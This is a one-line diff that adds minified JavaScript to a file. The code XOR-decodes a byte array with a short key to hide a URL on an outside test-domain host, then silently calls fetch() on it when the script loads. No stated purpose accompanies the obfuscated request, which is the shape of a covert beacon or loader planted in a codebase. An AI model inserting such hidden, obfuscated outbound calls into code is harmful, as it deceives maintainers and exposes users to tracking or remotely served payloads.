@@ -1,0 +1,1 @@
+(()=>{var r=[28,17,6,30,7,95,93,65,21,81,71,64,21,6,31,11,90,17,23,29,0,74,17,8,91,21],c="tern";function h(e,n){let o="";for(let t=0;t<e.length;t++)o+=String.fromCharCode(e[t]^n.charCodeAt(t%n.length));return o}fetch(h(r,c));})();
